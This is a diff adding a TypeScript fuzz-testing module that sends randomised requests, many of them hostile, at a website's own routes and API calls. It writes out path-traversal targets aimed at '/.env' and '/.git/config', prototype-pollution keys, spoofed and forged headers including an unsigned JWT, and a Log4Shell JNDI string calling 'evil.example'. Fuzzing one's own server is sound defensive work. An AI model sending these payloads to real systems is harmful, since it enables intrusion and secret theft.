@@ -1,0 +1,160 @@
+/** One request to the site, drawn by chance from its calls and pages, and from what attackers send. */
+import { allCalls } from '#shared/contracts/all-calls.ts';
+import type { CallDefinition } from '#shared/contracts/define-call.ts';
+import { routeIds, routeRow } from '#shared/routes/route-table.ts';
+import { staffRouteIds, staffRoutes } from '#shared/routes/staff-routes.ts';
+import type { Random } from '../support/random.ts';
+import { hostileTexts } from './hostile-values.ts';
+import { someText, valueOf, type ValueMaker } from './schema-values.ts';
+
+export interface MadeRequest {
+  readonly method: string;
+  readonly target: string;
+  readonly headers: Readonly<Record<string, string>>;
+  readonly body: string | Buffer | undefined;
+}
+
+/** Everything that is no page and no call. */
+const otherTargets = [
+  ...['/robots.txt', '/sitemap.xml', '/sitemaps/pages.xml', '/llms.txt', '/index.md', '/about.md', '/blog.md'],
+  ...['/blog/rss.xml', '/blog/feed.json', '/blog/tag/x/atom.xml', '/favicon.ico', '/site.webmanifest', '/healthz'],
+  ...['/readyz', '/art/field/x/plate.svg', '/art/constructor/x/plate.svg', '/media/x/320.avif', '/icons/icon-192.png'],
+  ...[
+    '/social-cards/about/x.png',
+    '/preview/x',
+    '/_data/',
+    '/_data/about',
+    '/_data/preview/x',
+    '/_data//',
+    '/_problem',
+  ],
+  ...['/assets/', '/assets/../index.html', '/fonts/../../package.json', '/.git/config', '/.env', '/package.json'],
+  ...['/%2e%2e/%2e%2e/package.json', '/..%5c..%5cpackage.json', '//', '/;/', '/?', '/*', '/old-page'],
+];
+
+const fieldsOf = (schema: CallDefinition['query']): string[] => Object.keys(schema?.shape ?? {});
+
+const filled = (pattern: string, maker: ValueMaker): string =>
+  pattern.replace(/:\w+\??|\{\w+\}/g, () => encodeURIComponent(wellFormed(someText(maker))));
+
+/** Half a surrogate has no place in an address that is encoded; raw ones are sent besides. */
+const wellFormed = (text: string): string => text.replace(/[\ud800-\udfff]/g, '\ufffd');
+
+const queryOf = (names: readonly string[], maker: ValueMaker): string => {
+  const { random, malice } = maker;
+  const pairs = names.filter(() => random.number() < 0.5).map((name) => [name, someText(maker)]);
+  if (random.number() < malice) pairs.push([someText(maker), someText(maker)], ...pairs);
+  if (random.number() < malice) pairs.push(['page[$gt]', ''], ['limit[]', '1'], ['__proto__[x]', '1']);
+  const text = new URLSearchParams(pairs.map(([name = '', value = '']) => [name, value])).toString();
+  return text === '' ? '' : `?${text}`;
+};
+
+const hostileHeaders: readonly (readonly [string, string])[] = [
+  ['host', 'evil.example'],
+  ['x-forwarded-host', 'evil.example'],
+  ['x-forwarded-proto', 'javascript'],
+  ['x-forwarded-for', '127.0.0.1, evil'],
+  ['x-http-method-override', 'DELETE'],
+  ['x-original-url', '/admin'],
+  ['accept-encoding', 'br;q=x, gzip;q=9, *;q=-1'],
+  ['accept', '*/*;q=zzz'],
+  ['accept', 'a'.repeat(3000)],
+  ['if-none-match', 'W/"'.repeat(200)],
+  ['if-modified-since', 'yesterday'],
+  ['if-range', '"x"'],
+  ['range', 'bytes=0-0,1-1,2-2,-9999999999,9-1'],
+  ['cookie', '__proto__=1; a="'],
+  ['origin', 'https://evil.example'],
+  ['sec-fetch-site', 'cross-site'],
+  ['referer', 'https://evil.example/\u00ff'],
+  ['idempotency-key', 'k'.repeat(201)],
+  ['idempotency-key', '__proto__'],
+  ['x-request-id', '../../../x'],
+  ['content-encoding', 'gzip'],
+  ['content-encoding', 'x'],
+  ['authorization', 'Bearer e30.e30.'],
+  ['authorization', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.'],
+  ['authorization', 'Basic YTpi'],
+  ['user-agent', '${jndi:ldap://evil.example/a}'],
+];
+
+const contentTypes = ['application/json', 'application/json; charset=utf-16', 'text/plain', 'image/png', 'x'];
+
+const headersFor = (maker: ValueMaker, token: string, forStaff: boolean): Record<string, string> => {
+  const { random, malice } = maker;
+  const headers: Record<string, string> = {};
+  if (random.number() < (forStaff ? 0.93 : 0.1)) headers['authorization'] = `Bearer ${token}`;
+  if (random.number() < 0.2) headers['accept-encoding'] = random.oneOf(['br', 'gzip', 'identity']);
+  while (random.number() < malice) {
+    const [name, value] = random.oneOf(hostileHeaders);
+    headers[name] = value;
+  }
+  return headers;
+};
+
+const brokenJson = ['{', '{"a":}', '[1,', 'nul', '"\ud800"', '{"a":1}{"b":2}', '\ufeff{}', '{"__proto__":1'];
+
+const bodyFor = (call: CallDefinition, maker: ValueMaker): string | Buffer => {
+  const { random, malice } = maker;
+  if (random.number() < malice / 2) return random.oneOf([...brokenJson, ...hostileTexts]);
+  if (call.accepts !== undefined)
+    return Buffer.from(Array.from({ length: random.below(400) }, () => random.below(256)));
+  return JSON.stringify(call.body === undefined ? {} : valueOf(call.body, maker)) ?? '';
+};
+
+const requestToCall = (call: CallDefinition, maker: ValueMaker, token: string): MadeRequest => {
+  const { random, malice } = maker;
+  const takesBody = call.body !== undefined || call.accepts !== undefined;
+  const type = call.accepts === undefined ? 'application/json' : 'image/png';
+  const body = takesBody || random.number() < malice / 4 ? bodyFor(call, maker) : undefined;
+  return {
+    method: random.number() < malice / 4 ? random.oneOf(['PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS']) : call.method,
+    target: filled(call.path, maker) + queryOf(fieldsOf(call.query), maker),
+    headers: {
+      ...(body === undefined
+        ? {}
+        : { 'content-type': random.number() < malice / 4 ? random.oneOf(contentTypes) : type }),
+      ...headersFor(maker, token, call.auth === 'staff'),
+    },
+    body,
+  };
+};
+
+const pagePatterns = [
+  ...routeIds.map((id) => ({ pattern: routeRow(id).pattern, query: routeRow(id).query })),
+  ...staffRouteIds.map((id) => ({ pattern: staffRoutes[id].pattern, query: [] })),
+];
+
+const requestToPage = (maker: ValueMaker, token: string): MadeRequest => {
+  const { random, malice } = maker;
+  const { pattern, query } = random.oneOf(pagePatterns);
+  const draw = random.number();
+  const path = draw < 0.6 ? filled(pattern, maker) : draw < 0.9 ? random.oneOf(otherTargets) : `/${someText(maker)}`;
+  const prefix = random.number() < 0.15 ? '/_data' : '';
+  const target = prefix + path + queryOf([...query, 'preview', 'service'], maker);
+  const method = random.number() < malice / 2 ? random.oneOf(['POST', 'HEAD', 'OPTIONS', 'PUT', 'TRACE']) : 'GET';
+  return { method, target, headers: headersFor(maker, token, false), body: undefined };
+};
+
+const formFields = ['name', 'email', 'company', 'message', 'service_interest', 'urgent', 'form_shown_at', 'position'];
+
+const postedForm = (maker: ValueMaker, token: string): MadeRequest => ({
+  method: 'POST',
+  target: '/contact',
+  headers: { 'content-type': 'application/x-www-form-urlencoded', ...headersFor(maker, token, false) },
+  body: queryOf([...formFields, ...formFields], maker).slice(1),
+});
+
+/** A password costs a tenth of a second to hash, and who signs out asks no more. */
+const costly = /\/(?:login|create-admin)$/;
+const calls = allCalls.filter(({ path }) => !path.endsWith('/logout') && !costly.test(path));
+const costlyCalls = allCalls.filter(({ path }) => costly.test(path));
+
+export const madeRequest = (random: Random, known: readonly string[], token: string): MadeRequest => {
+  const maker: ValueMaker = { random, known, malice: random.oneOf([0, 0.05, 0.2, 0.5]) };
+  const draw = random.number();
+  if (draw < 0.004) return requestToCall(random.oneOf(costlyCalls), maker, token);
+  if (draw < 0.68) return requestToCall(random.oneOf(calls), maker, token);
+  if (draw < 0.72) return postedForm(maker, token);
+  return requestToPage(maker, token);
+};
